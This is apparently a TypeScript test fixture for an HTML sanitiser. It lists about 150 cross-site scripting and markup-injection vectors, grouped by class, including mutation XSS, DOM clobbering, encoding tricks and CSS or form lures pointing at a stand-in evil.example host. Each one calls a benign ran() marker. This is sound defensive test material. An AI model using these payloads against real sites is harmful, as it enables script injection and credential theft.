// What people have tried to get a script past a sanitiser, class by class. Each stands between two harmless sentences.
// A script that runs all the same calls `ran(…)`, so that a browser can tell.

export type Vector = { name: string; html: string; keeps: string[] };

const before = 'Harmless before.';
const after = 'Harmless after.';

const closed = (kind: string, attacks: string[], keeps = [before, after]): Vector[] =>
  attacks.map((attack, i) => ({
    name: `${kind} ${i + 1}`,
    html: `<p>${before}</p>${attack}<p>${after}</p>`,
    keeps,
  }));

/** What never ends takes what follows with it, in a browser too. */
const open = (kind: string, attacks: string[]) => closed(kind, attacks, [before]);

const scripts = closed('script', [
  '<script>ran()</script>',
  '<ScRiPt type="text/javascript">ran()</sCrIpT>',
  '<script src="data:text/javascript,ran()"></script>',
  '<script/x>ran()</script>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<<script>ran();//<</script>',
  '<svg><script>ran()</script></svg>',
  '<svg><script xlink:href="data:,ran()"></script></svg>',
  '<math><script>ran()</script></math>',
]);

const handlers = closed('handler', [
  '<img src=x onerror=ran()>',
  '<img/src=x/onerror=ran()>',
  '<img src=x\x0conerror=ran()>',
  '<img src="x" alt="a"onerror="ran()">',
  '<img """><script>ran()</script>">',
  '<p onclick="ran()" onmouseover=ran()>text</p>',
  '<a href="https://example.com" onfocus=ran() autofocus>link</a>',
  '<iframe src="https://www.youtube.com/embed/x" onload=ran()></iframe>',
  '<body onload=ran()>',
  '<details open ontoggle=ran()><summary>x</summary></details>',
  '<video><source onerror=ran()></video>',
  '<input onfocus=ran() autofocus>',
  '<table onscroll=ran()><tr><td onclick=ran()>cell</td></tr></table>',
  '<p style="animation-name:x" onanimationstart=ran()>x</p>',
  '<li data-list="bullet" onclick="ran()">item</li>',
]);

const scriptAddresses = closed('address of script', [
  '<a href="javascript:ran()">x</a>',
  '<a href="JaVaScRiPt:ran()">x</a>',
  '<a href="\x01javascript:ran()">x</a>',
  '<a href="java\nscript:ran()">x</a>',
  '<a href="java&Tab;script:ran()">x</a>',
  '<a href="&#106;&#97;vascript:ran()">x</a>',
  '<a href="&#0000106avascript:ran()">x</a>',
  '<a href="javascript://https://example.com/%0aran()">x</a>',
  '<a href="vbscript:ran()">x</a>',
  '<a href="view-source:javascript:ran()">x</a>',
  '<a href="jar:javascript:ran()!/x">x</a>',
  '<a href="\ufeffjavascript:ran()">x</a>',
  '<a href="blob:https://example.com/x">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="/\\evil.example/x">x</a>',
  '<a href="/\t/evil.example/x">x</a>',
  '<img src="javascript:ran()">',
  '<img src="https://example.com/a.png" srcset="javascript:ran() 1x" lowsrc="javascript:ran()" dynsrc="javascript:ran()">',
  '<iframe src="javascript:ran()"></iframe>',
  '<a href="https://example.com" ping="javascript:ran()">x</a>',
  '<a xlink:href="javascript:ran()">x</a>',
  '<a href="x" href="javascript:ran()">x</a>',
  '<table background="javascript:ran()"><tr><td background="javascript:ran()">x</td></tr></table>',
]);

const dataAddresses = closed('data address', [
  '<a href="data:text/html,<script>ran()</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">x</a>',
  '<iframe src="data:text/html,<script>ran()</script>"></iframe>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+">',
  '<img src="data:image/png;base64,x&quot; onerror=&quot;ran()">',
  '<img src="data:image/png,<script>ran()</script>">',
  '<img src="data:image/webp;base64,AAAA">',
  '<object data="data:text/html,<script>ran()</script>"></object>',
]);

const foreign = closed('SVG and MathML', [
  '<svg onload=ran()></svg>',
  '<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:ran() /><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>ran()</script>"></iframe></foreignObject></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">ran()</handler></svg>',
  '<svg><desc><img src=x onerror=ran()></desc></svg>',
  '<math><maction actiontype="statusline#x" xlink:href="javascript:ran()">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>',
]);

const mutations = closed('mutation', [
  '<svg></p><style><a id="</style><img src=1 onerror=ran()>"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;"></table></mtext></math>',
  '<math><mtext><table><mglyph><style><math><img src onerror=ran()></style></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()></style></form>',
  '<svg><title><style><a title="</style></title><img src=x onerror=ran()>"></style></title></svg>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>"></p></noscript>',
  '<noscript><style></noscript><img src=x onerror=ran()></style></noscript>',
  '<template><img src=x onerror=ran()></template>',
  '<div><template shadowrootmode=open><img src=x onerror=ran()></template></div>',
  '<xmp><p title="</xmp><img src=x onerror=ran()>"></xmp>',
  '<listing>&lt;img src=x onerror=ran()&gt;</listing>',
  '<textarea><p title="</textarea><img src=x onerror=ran()>"></textarea>',
  '<title><p title="</title><img src=x onerror=ran()>"></title>',
  '<select><option><style></option></select><img src=x onerror=ran()></style></select>',
  '<iframe src="https://www.youtube.com/embed/x"></p><img src=x onerror=ran()></iframe>',
  '<p><svg><p><style><img src=x onerror=ran()></style></p></svg></p>',
  '<table><td><svg><desc><td></desc></svg><img src=x onerror=ran()></td></table>',
  '<a title="`<img src=x onerror=ran()>`">x</a>',
  '<img alt="``onerror=ran()">',
  '<p>&lt;img src=x onerror=ran()&gt;</p>',
  '<p>&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;</p>',
  '<code>&lt;/code&gt;&lt;script&gt;ran()&lt;/script&gt;</code>',
  '<svg><![CDATA[><img src=x onerror=ran()>]]></svg>',
  '<?xml version="1.0"?><?php ran() ?>',
  '<!ENTITY x "<script>ran()</script>">',
  '<!--><img src=x onerror=ran()>-->',
  '</div></main></body></html><script>ran()</script>',
]);

const styles = closed('CSS', [
  '<style>@import "https://evil.example/x.css"; * { background: url(javascript:ran()) }</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<p style="behavior:url(#x);-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999;background:white">x</p>',
  '<p style="color:red;background-image:url(https://evil.example/?leak)">x</p>',
  '<p class="button header ql-color-e60000 ql-color-expression(ran())">x</p>',
  '<span class="visually-hidden ql-size-huge" style="font-size:1000px">x</span>',
]);

const frames = closed('frame', [
  '<iframe srcdoc="<script>ran()</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>ran()</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="//www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe src="https://www.youtube.com\\@evil.example/embed/x"></iframe>',
  '<iframe src="https://player.vimeo.com/video/1/../../evil"></iframe>',
  '<iframe src="https://player.vimeo.com:8080/video/1"></iframe>',
  '<iframe src="/admin"></iframe>',
  '<iframe></iframe>',
  '<frameset><frame src="javascript:ran()"></frameset>',
  '<object data="https://evil.example/x.swf"><param name=x value=y></object>',
]);

const takeovers = closed('document', [
  '<meta http-equiv="refresh" content="0;url=javascript:ran()">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<button formaction="javascript:ran()">x</button>',
  '<html><head><script>ran()</script></head><body><p>x</p></body></html>',
]);

const clobbering = closed('DOM clobbering', [
  '<p id=root>x</p>',
  '<a id=location href="https://evil.example">x</a>',
  '<a id=x><a id=x name=y href="https://evil.example">z</a></a>',
  '<form id=document><input name=body></form>',
  '<iframe name=opener src="https://www.youtube.com/embed/x"></iframe>',
  '<p id="page-data">{"admin":true}</p>',
  '<p slot=x part=y is=z contenteditable accesskey=x tabindex=1 itemprop=y>x</p>',
  '<li data-page="home" data-list="__proto__">x</li>',
]);

const encodings = closed('encoding', [
  '<img src=x onerror=&#114;an()>',
  '<script>\\u0072an()</script>',
  '\u3008script\u3009ran()\u3008/script\u3009',
  '<\u0000script>ran()</script>',
  '<img src=x o\u0000nerror=ran()>',
  '<\u212amg src=x onerror=ran()>',
  '+ADw-script+AD4-ran()+ADw-/script+AD4-',
  '\u001b$B<script>ran()</script>\u001b(B',
  '\u202e<a href="javascript:ran()">x</a>\u202c',
  '<a href="java\u200bscript:ran()">x</a>',
  '<a href="\ud83djavascript:ran()">x</a>',
  '<a href="https://example.com/\u202egnp.exe">x</a>',
]);

const nesting = closed('nesting', [
  '<b><i><u><a href="javascript:ran()"><img src=x onerror=ran()></a></u></i></b>',
  `${'<div>'.repeat(500)}<img src=x onerror=ran()>${'</div>'.repeat(500)}`,
  `${'<b>'.repeat(200)}<script>ran()</script>${'</b>'.repeat(200)}`,
  '<table><tr><td><script>ran()</script></td></tr><script>ran()</script></table>',
  '<p title="><script>ran()</script>">x</p>',
  "<p title='\"><img src=x onerror=ran()>'>x</p>",
  '<img alt="&quot;><img src=x onerror=ran()>" src="https://example.com/a.png">',
  '<a href=\'https://example.com/"onmouseover="ran()\'>x</a>',
  '<a href="https://example.com/&quot; onmouseover=&quot;ran()">x</a>',
  '<iframe src="https://www.youtube.com/embed/x" title="&quot; srcdoc=&quot;<script>ran()</script>"></iframe>',
  '<x onclick=ran()>unknown</x><x-y onfocus=ran() tabindex=0>custom</x-y>',
  '<p <script>ran()</script>>x</p>',
]);

const openEnded = open('without an end', [
  '<script>ran()',
  '<img src="x" onerror="ran()',
  '<!-- <img src=x onerror=ran()>',
  '<textarea><img src=x onerror=ran()>',
  '<style><img src=x onerror=ran()>',
  '<plaintext><img src=x onerror=ran()>',
  '<iframe src="https://www.youtube.com/embed/x"><img src=x onerror=ran()>',
  '<svg><style><img src=x onerror=ran()>',
  '<a href="javascript:ran()',
]);

export const vectors: Vector[] = [
  ...scripts,
  ...handlers,
  ...scriptAddresses,
  ...dataAddresses,
  ...foreign,
  ...mutations,
  ...styles,
  ...frames,
  ...takeovers,
  ...clobbering,
  ...encodings,
  ...nesting,
  ...openEnded,
];
